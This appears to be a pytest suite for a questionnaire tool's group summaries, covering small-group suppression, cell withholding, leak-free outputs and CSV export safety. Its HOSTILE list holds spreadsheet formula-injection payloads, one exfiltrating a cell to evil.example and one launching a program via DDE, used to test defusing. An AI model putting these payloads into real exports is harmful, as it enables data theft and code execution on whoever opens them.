"""A group's figures: nothing computed from too few people, no cell that singles anyone out, no
individual's answers in any output, exports that cannot attack whoever opens them, and one wide
answers frame from pasted codes, saved results and the synthetic sample."""

from __future__ import annotations

import csv
import dataclasses
import datetime
import io
import itertools
import json
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from cohort_samples import DAY, FakeStore, codes_for, saved_results

from assess import Answers, Instrument, default_instrument
from assess.app.facilitator import build_facilitator
from assess.core.model import Text
from assess.core.result_code import encode_result
from assess.datafiles.messages import default_messages
from assess.datafiles.reference import default_reference
from assess.group.answers import answers_frame, frame_from_results, workshop_frame
from assess.group.codes import frame_from_codes
from assess.group.cohort import score_cohort
from assess.group.csv_safe import FORMULA_TRIGGERS, to_csv
from assess.group.disclosure import WithheldReason, shown_quantiles, suppress
from assess.group.summarise import summarise
from assess.group.summary import NO_ANSWER, UNSCORED, Breakdown, CohortSummary
from assess.group.summary_tables import combined_frame, summary_frames, summary_json
from assess.group.summary_text import summary_text
from assess.group.synthetic import synthetic_cohort

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def instrument() -> Instrument:
    """The shipped questionnaire."""
    return default_instrument()


def breakdowns(summary: CohortSummary) -> Iterator[Breakdown]:
    for scope in summary.scopes:
        yield scope.bands
    if summary.survey is not None:
        yield summary.survey.room


def all_outputs(summary: CohortSummary) -> str:
    """Every text output of a summary, in both languages."""
    messages = default_messages()
    parts = []
    for language in ("ja", "en"):
        frames = summary_frames(summary, language=language)
        parts += [to_csv(frame) for frame in frames.values()]
        parts.append(to_csv(combined_frame(frames)))
        parts.append(summary_json(summary, language=language))
        parts.append(summary_text(summary, language=language, messages=messages))
    return "\n".join(parts)


# --- the threshold -------------------------------------------------------------------------------


def test_a_group_of_four_sees_its_head_count_and_nothing_else(instrument: Instrument) -> None:
    """Below 5 people every figure is withheld, with the reason "fewer than 5 people"."""
    summary = summarise(instrument, synthetic_cohort(instrument, 4, seed=1))
    assert summary.participants == 4
    assert summary.withheld is not None and summary.withheld.reason is WithheldReason.TOO_FEW
    assert summary.withheld.text() == "fewer than 5 people"
    assert all(scope.distribution is None for scope in summary.scopes)
    assert all(cell.count is None for b in breakdowns(summary) for cell in b.cells)
    assert all(alpha.alpha is None for alpha in summary.alphas)
    assert summary.weakest == ()
    frames = summary_frames(summary)
    assert frames["distributions"][["mean", "median"]].isna().all().all()
    assert frames["bands"]["count"].isna().all()
    assert "fewer than 5 people" in summary_text(
        summary, language="en", messages=default_messages()
    )


def test_five_people_are_enough_for_the_mean_but_not_for_percentiles(
    instrument: Instrument,
) -> None:
    """At exactly 5 the means are shown; percentiles need 5 people on each side of them."""
    summary = summarise(instrument, synthetic_cohort(instrument, 5, seed=1))
    assert summary.withheld is None
    for scope in summary.scopes:
        if scope.distribution is not None:
            d = scope.distribution
            assert d.mean is not None
            assert (d.p10, d.p25, d.median, d.p75, d.p90) == (None,) * 5
            assert scope.withheld is not None and scope.withheld.reason is WithheldReason.TAILS


def test_percentiles_appear_as_the_group_grows() -> None:
    """The median from 2 × min_group people, the quartiles from 4 ×, the 10th/90th from 10 ×."""
    assert shown_quantiles(9, 5) == ()
    assert shown_quantiles(10, 5) == (50.0,)
    assert shown_quantiles(19, 5) == (50.0,)
    assert shown_quantiles(20, 5) == (25.0, 50.0, 75.0)
    assert shown_quantiles(49, 5) == (25.0, 50.0, 75.0)
    assert shown_quantiles(50, 5) == (10.0, 25.0, 50.0, 75.0, 90.0)
    assert shown_quantiles(30, 3) == (10.0, 25.0, 50.0, 75.0, 90.0)


def test_a_configured_threshold_withholds_groups_below_it(instrument: Instrument) -> None:
    """With min_group=8, seven people see only their head count; eight see figures."""
    seven = summarise(instrument, synthetic_cohort(instrument, 7, seed=2), min_group=8)
    assert seven.withheld is not None and seven.withheld.text() == "fewer than 8 people"
    assert all(scope.distribution is None for scope in seven.scopes)
    eight = summarise(instrument, synthetic_cohort(instrument, 8, seed=2), min_group=8)
    assert eight.withheld is None
    assert any(scope.distribution is not None for scope in eight.scopes)


@pytest.mark.parametrize("value", [2, 1, 0, -5, True, 2.5, "5"])
def test_a_threshold_below_three_or_not_a_whole_number_is_refused(
    instrument: Instrument, value: Any
) -> None:
    """min_group never goes below 3, wherever it is set."""
    frame = synthetic_cohort(instrument, 10, seed=1)
    with pytest.raises(ValueError, match="min_group"):
        summarise(instrument, frame, min_group=value)
    with pytest.raises(ValueError, match="min_group"):
        suppress([5, 5], min_group=value)
    with pytest.raises(ValueError, match="min_group"):
        build_facilitator(min_group=value, query_string="")


def test_three_is_the_smallest_threshold_allowed(instrument: Instrument) -> None:
    """min_group=3 is accepted: three people see means."""
    summary = summarise(instrument, synthetic_cohort(instrument, 3, seed=4), min_group=3)
    assert summary.withheld is None
    assert summary.scope("isolation_risk").distribution is not None


def test_a_facet_scored_for_too_few_people_is_withheld_in_a_large_group(
    instrument: Instrument,
) -> None:
    """Twelve took part but only four have an emotional score: that facet alone is withheld."""
    frame = synthetic_cohort(instrument, 12, seed=5, missing_rate=0.0)
    emotional = [item.id for item in instrument.items_of("emotional")]
    frame.loc[4:, emotional] = np.nan
    summary = summarise(instrument, frame)
    scope = summary.scope("emotional")
    assert scope.distribution is None
    assert scope.withheld is not None and scope.withheld.reason is WithheldReason.TOO_FEW
    assert "emotional" not in [s.id for s in summary.weakest]
    assert summary.scope("spatial").distribution is not None
    alpha = next(a for a in summary.alphas if a.facet == "emotional")
    assert alpha.alpha is None and alpha.withheld is not None


# --- small cells and complementary withholding ---------------------------------------------------


@pytest.mark.parametrize(
    ("counts", "shown"),
    [
        ([9, 6, 0], (9, 6, 0)),
        ([3, 2, 10], (None, None, 10)),
        ([12, 1, 7], (12, None, None)),
        ([1, 19, 0], (None, None, None)),
        ([0, 0, 20], (0, 0, 20)),
    ],
)
def test_a_small_cell_is_never_withheld_alone(counts: list[int], shown: tuple[int | None]) -> None:
    """A cell of 1–4 people is withheld with at least one more, or the whole breakdown is."""
    assert suppress(counts, min_group=5) == shown


# Groups of up to 9 people: every threshold with small cells alone, in pairs and beside one shown
# cell, in well under a second; up to 14 (two shown cells beside small ones, about 20 s) is slow.
@pytest.mark.parametrize("most", [9, pytest.param(14, marks=pytest.mark.slow)])
def test_no_withheld_count_can_be_worked_out_from_what_is_shown(most: int) -> None:
    """Exhaustively, for 2–5 cells, thresholds 3–5 and groups of up to `most` people: an adversary
    who sees the shown cells and the total, and knows the rule, never pins down a withheld count."""
    for cells, min_group in itertools.product(range(2, 6), range(3, 6)):
        for total in range(most + 1):
            seen: dict[tuple[int | None, ...], list[tuple[int, ...]]] = defaultdict(list)
            for counts in itertools.product(range(total + 1), repeat=cells):
                if sum(counts) == total:
                    seen[suppress(counts, min_group=min_group)].append(counts)
            for shown, sources in seen.items():
                hidden = [i for i, c in enumerate(shown) if c is None]
                assert len(hidden) != 1, shown
                assert all(c == 0 or c >= min_group for c in shown if c is not None)
                if hidden and len(hidden) < cells:
                    assert total - sum(c for c in shown if c is not None) >= min_group
                for i in hidden:
                    assert len({counts[i] for counts in sources}) >= 2, (shown, sources)


@pytest.mark.parametrize("size", [6, 9, 13, 21, 34])
def test_every_breakdown_of_a_summary_withholds_small_cells_in_company(
    instrument: Instrument, size: int
) -> None:
    """In real summaries: shown counts are 0 or at least 5, and withheld ones come in twos."""
    summary = summarise(instrument, synthetic_cohort(instrument, size, seed=size))
    for breakdown in breakdowns(summary):
        counts = [cell.count for cell in breakdown.cells]
        hidden = [c for c in counts if c is None]
        assert len(hidden) != 1
        assert all(c == 0 or c >= 5 for c in counts if c is not None)
        if hidden and len(hidden) < len(counts):
            assert breakdown.total - sum(c for c in counts if c is not None) >= 5
        assert all(
            cell.withheld is not None and cell.withheld.reason is WithheldReason.SMALL_CELLS
            for cell in breakdown.cells
            if cell.count is None
        )


def test_the_unscored_and_no_answer_cells_are_part_of_their_breakdowns(
    instrument: Instrument,
) -> None:
    """One person who skipped the loneliness question is not shown as "no answer: 1"."""
    frame = synthetic_cohort(instrument, 30, seed=8, missing_rate=0.0)
    frame.loc[0, "lonely_direct"] = np.nan
    summary = summarise(instrument, frame, reference=default_reference())
    assert summary.survey is not None
    assert summary.survey.room.cell(NO_ANSWER).count is None
    assert sum(1 for cell in summary.survey.room.cells if cell.count is None) >= 2
    assert summary.scope("spatial").bands.cell(UNSCORED).count == 0


# --- no individual answers -----------------------------------------------------------------------


def test_no_output_holds_the_answers_of_a_distinctive_respondent(instrument: Instrument) -> None:
    """Five people, one answering in a pattern nobody else does: no table, CSV, JSON or text
    holds a row of their answers, their result code or their own scores."""
    crowd = synthetic_cohort(instrument, 4, seed=11, missing_rate=0.0)
    odd = {
        item.id: float(item.scale.values[0] if n % 2 else item.scale.values[-1])
        for n, item in enumerate(instrument.items)
    }
    items = [item.id for item in instrument.items]
    frame = pd.concat([crowd[items], pd.DataFrame([odd])], ignore_index=True)
    summary = summarise(instrument, frame)
    assert summary.participants == 5
    answers = [odd[item_id] for item_id in items]
    frames = summary_frames(summary)
    for name, table in frames.items():
        assert not set(table.columns) & set(items), name
        for row in table.itertuples(index=False):
            values = list(row)
            for start in range(len(values) - len(answers) + 1):
                assert values[start : start + len(answers)] != answers
    text = all_outputs(summary)
    code = encode_result(instrument, Answers({k: int(v) for k, v in odd.items()}), DAY)
    assert code not in text
    assert ",".join(f"{int(v)}" for v in answers) not in text
    assert ",".join(f"{v}" for v in answers) not in text
    own = score_cohort(instrument, pd.DataFrame([odd]))
    distributions = frames["distributions"].set_index("scope")
    for scope in summary.scopes:
        mine = round(float(own.loc[0, f"{scope.id}_percent"]), 1)
        figures = distributions.loc[scope.id, ["mean", "p10", "p25", "median", "p75", "p90"]]
        assert mine not in set(figures.dropna()), scope.id


def test_a_summary_keeps_no_rows_ids_dates_or_profile_answers(instrument: Instrument) -> None:
    """Nothing of the input frame but aggregates survives: no result ids, dates or profiles."""
    frame = synthetic_cohort(instrument, 25, seed=12)
    frame.index = pd.Index([f"result-{n:04d}" for n in range(25)], name="result_id")
    summary = summarise(instrument, frame)
    text = all_outputs(summary)
    assert "result-00" not in text
    assert "2026-01-1" not in text
    profile = {question.id for question in instrument.profile}
    for table in summary_frames(summary).values():
        assert not profile & set(table.columns)
    records = json.loads(summary_json(summary))["tables"]
    assert not profile & {key for rows in records.values() for row in rows for key in row}


# --- exports -------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =cmd|' /C calc'!A0",
]


def test_csv_cells_cannot_run_as_formulas() -> None:
    """Every text cell starting with = + - @ tab or CR (or full-width = + - @) gets a quote."""
    frame = pd.DataFrame(
        {"label": [*HOSTILE, "ws-tokyo", "安全"], "alpha": [-0.25] + [0.5] * (len(HOSTILE) + 1)}
    )
    frame["=evil"] = "x"
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert rows[0] == ["label", "alpha", "'=evil"]
    for row, original in zip(rows[1:], [*HOSTILE, "ws-tokyo", "安全"], strict=True):
        assert not row[0].startswith(FORMULA_TRIGGERS)
        shown = original.replace("\r", "\\r")  # a carriage return is written as its escape
        assert row[0] in (shown, "'" + shown)
    assert rows[-2][0] == "ws-tokyo" and rows[-1][0] == "安全"
    assert rows[1][1] == "-0.25", "numbers stay numbers"


def test_hostile_cohort_codes_and_labels_are_defused_in_every_table(
    instrument: Instrument,
) -> None:
    """A cohort code or a facet label from a data file that looks like a formula is quoted."""
    hostile = dataclasses.replace(
        instrument,
        facets=tuple(
            dataclasses.replace(facet, label=Text(ja="=1+1", en="@SUM(1+1)"))
            for facet in instrument.facets
        ),
    )
    summary = summarise(
        hostile, synthetic_cohort(hostile, 30, seed=3), cohort='=HYPERLINK("http://x")'
    )
    for language in ("ja", "en"):
        frames = summary_frames(summary, language=language)
        for text in [to_csv(f) for f in frames.values()] + [to_csv(combined_frame(frames))]:
            for row in csv.reader(io.StringIO(text)):
                for cell in row:
                    assert not cell.startswith(FORMULA_TRIGGERS), cell


def test_the_tables_are_tidy_and_complete(instrument: Instrument) -> None:
    """Six tables; one row per scope, per band, per facet ranked, per survey answer, per alpha."""
    summary = summarise(
        instrument, synthetic_cohort(instrument, 60, seed=9), reference=default_reference()
    )
    frames = summary_frames(summary, language="ja")
    assert list(frames) == ["overview", "distributions", "bands", "weakest", "survey", "alphas"]
    scopes = len(instrument.facets) + len(instrument.indices)
    assert len(frames["distributions"]) == scopes
    assert len(frames["bands"]) == sum(len(s.bands.cells) for s in summary.scopes)
    assert len(frames["survey"]) == 6
    assert len(frames["alphas"]) == len(instrument.facets)
    assert frames["overview"].loc[0, "participants"] == 60
    survey = frames["survey"]
    assert survey["national_share"].tolist() == [4.8, 14.8, 19.7, 41.4, 17.9, 1.5]
    assert survey["national_round"].unique().tolist() == [2023]


# --- weakest facets and the survey ---------------------------------------------------------------


def test_the_weakest_facets_rank_risk_by_score_and_strength_by_its_lack(
    instrument: Instrument,
) -> None:
    """Everybody alone with nobody to consult: safety net (risk high) and depth (strength low)
    lead; a strong facet comes last."""
    frame = synthetic_cohort(instrument, 20, seed=6, missing_rate=0.0)
    for item in instrument.items_of("safety_net"):
        frame[item.id] = float(max(item.scale.values, key=item.keyed_score))
    for item in instrument.items_of("depth"):
        frame[item.id] = float(min(item.scale.values, key=item.keyed_score))
    for item in instrument.items_of("online"):
        frame[item.id] = float(max(item.scale.values, key=item.keyed_score))
    summary = summarise(instrument, frame)
    ranked = [scope.id for scope in summary.weakest]
    assert set(ranked[:2]) == {"safety_net", "depth"}
    assert ranked[-1] == "online"
    assert summary.weakest[0].need == 100.0


def test_the_loneliness_question_is_counted_beside_the_national_survey(
    instrument: Instrument,
) -> None:
    """Ten people who all feel lonely often: 10 in that answer, 0 elsewhere, national 4.8 %."""
    frame = synthetic_cohort(instrument, 10, seed=7, missing_rate=0.0)
    frame["lonely_direct"] = 5.0
    summary = summarise(instrument, frame, reference=default_reference())
    assert summary.survey is not None
    room = summary.survey.room
    assert [cell.count for cell in room.cells] == [10, 0, 0, 0, 0, 0]
    assert room.share(room.cell("5")) == 100.0
    assert summary.survey.national_share("5") == 4.8
    assert summary.survey.round.year == 2023


def test_an_instrument_without_the_loneliness_question_has_no_comparison(
    small_instrument: Instrument,
) -> None:
    """Another questionnaire (the small test one) is summarised without the survey."""
    summary = summarise(small_instrument, synthetic_cohort(small_instrument, 12, seed=1))
    assert summary.survey is None
    assert summary_frames(summary)["survey"].empty


def test_answers_off_their_scale_are_refused_without_naming_a_row(
    instrument: Instrument,
) -> None:
    """A value that is not an option is an error naming the question, not the respondent."""
    frame = synthetic_cohort(instrument, 10, seed=1)
    frame.loc[3, "spatial_1"] = 9.0
    with pytest.raises(ValueError, match="spatial_1") as caught:
        summarise(instrument, frame)
    assert "row" not in str(caught.value)


def test_a_frame_without_any_question_is_refused(instrument: Instrument) -> None:
    """A frame of other columns is a mistake, not a group of people who skipped everything."""
    with pytest.raises(ValueError, match="none of the questions"):
        summarise(instrument, pd.DataFrame({"spatial-1": [1, 2, 3]}))


# --- pasted result codes -------------------------------------------------------------------------


def test_pasted_codes_with_bad_lines_are_reported_by_line_number(instrument: Instrument) -> None:
    """Blank lines are skipped; a bad line is named by its number, never by its text."""
    codes = codes_for(instrument, synthetic_cohort(instrument, 3, seed=1))
    lines = [
        codes[0],
        "",
        "this is not a code!",
        codes[1],
        codes[0],
        codes[2][:-3],
        f"  {codes[2]}  ",
        "A" * len(codes[0]),
    ]
    frame, problems = frame_from_codes(instrument, lines)
    assert len(frame) == 3
    assert [(p.line, p.problem) for p in problems] == [
        (3, "characters"),
        (5, "duplicate"),
        (6, "length"),
        (8, "checksum"),
    ]
    assert str(problems[1]) == "line 5: the same result code as line 1; counted once"
    for problem in problems:
        assert str(problem).startswith(f"line {problem.line}: ")
        assert codes[0] not in str(problem) and codes[2][:-3] not in str(problem)
        assert "this is not" not in str(problem)


def test_decoded_codes_give_back_the_answers_they_hold(instrument: Instrument) -> None:
    """The frame from codes holds every item (NaN where skipped), the profile and the date."""
    source = synthetic_cohort(instrument, 6, seed=2)
    frame, problems = frame_from_codes(instrument, codes_for(instrument, source))
    assert problems == []
    items = [item.id for item in instrument.items]
    pd.testing.assert_frame_equal(frame[items], source[items], check_dtype=False)
    assert set(frame["taken_on"]) == {DAY}
    assert list(frame.columns) == items + [q.id for q in instrument.profile] + ["taken_on"]


# --- the synthetic sample ------------------------------------------------------------------------


def test_a_synthetic_cohort_is_flagged_everywhere_it_is_shown(instrument: Instrument) -> None:
    """The frame carries the flag; the summary, tables, JSON and text say "synthetic (sample)"."""
    frame = synthetic_cohort(instrument, 20, seed=3)
    assert frame.attrs["synthetic"] is True and bool(frame["synthetic"].all())
    summary = summarise(instrument, frame)
    assert summary.synthetic
    assert summary_frames(summary, language="en")["overview"].loc[0, "data"] == (
        "synthetic (sample) data"
    )
    assert summary_frames(summary, language="ja")["overview"].loc[0, "data"] == (
        "合成（サンプル）データ"
    )
    assert json.loads(summary_json(summary))["synthetic"] is True
    for language in ("ja", "en"):
        text = summary_text(summary, language=language, messages=default_messages())
        assert "合成（サンプル）データ" in text and "synthetic (sample) data" in text
    real = frame.drop(columns="synthetic")
    real.attrs.clear()
    assert not summarise(instrument, real).synthetic


def test_a_synthetic_cohort_is_reproducible_by_seed(instrument: Instrument) -> None:
    """The same seed gives the same answers; another seed gives others."""
    first = synthetic_cohort(instrument, 40, seed=21)
    pd.testing.assert_frame_equal(first, synthetic_cohort(instrument, 40, seed=21))
    assert not first.equals(synthetic_cohort(instrument, 40, seed=22))
    with pytest.raises(ValueError, match="size"):
        synthetic_cohort(instrument, -1, seed=1)


def test_a_large_synthetic_cohort_has_plausible_alphas(instrument: Instrument) -> None:
    """600 synthetic people: every facet's alpha is shown and between 0.6 and 0.95."""
    summary = summarise(instrument, synthetic_cohort(instrument, 600, seed=4))
    assert len(summary.alphas) == len(instrument.facets)
    for alpha in summary.alphas:
        assert alpha.alpha is not None and 0.6 <= alpha.alpha <= 0.95, alpha
    assert all(scope.distribution is not None for scope in summary.scopes)
    assert all(
        scope.distribution.complete for scope in summary.scopes if scope.distribution is not None
    )


# --- one wide answers frame for every source --------------------------------------------------


def test_the_three_sources_build_frames_of_the_same_shape(instrument: Instrument) -> None:
    """Codes, saved results and the synthetic sample agree on columns, dtypes and dates."""
    records = saved_results(instrument, 6)
    from_store = frame_from_results(instrument, records)
    codes = [encode_result(instrument, r.answers, r.taken_on) for r in saved_results(instrument, 6)]
    from_codes, problems = frame_from_codes(instrument, codes)
    synthetic = synthetic_cohort(instrument, 6, seed=1).drop(columns="synthetic")
    assert problems == []
    for frame in (from_store, from_codes, synthetic):
        assert frame.dtypes.to_dict() == from_codes.dtypes.to_dict()
        assert all(type(day) is datetime.date for day in frame["taken_on"])
    assert list(from_store.index) == [r.id for r in records]


def test_the_answers_frame_refuses_columns_the_questionnaire_does_not_ask(
    instrument: Instrument,
) -> None:
    """A misspelt item id is an error, not a question everybody skipped."""
    with pytest.raises(ValueError, match="spatial-1"):
        answers_frame(instrument, items={"spatial-1": [1.0]}, profile={}, taken_on=[DAY])


def test_a_store_reads_only_this_questionnaires_version(instrument: Instrument) -> None:
    """Results of another version under the same workshop code are left out, never mixed."""
    current = saved_results(instrument, 5)
    older = [
        dataclasses.replace(r, instrument_version="0.0.1") for r in saved_results(instrument, 4)
    ]
    frame = workshop_frame(instrument, FakeStore(current + older), "ws-osaka")
    assert sorted(frame.index) == sorted(r.id for r in current)
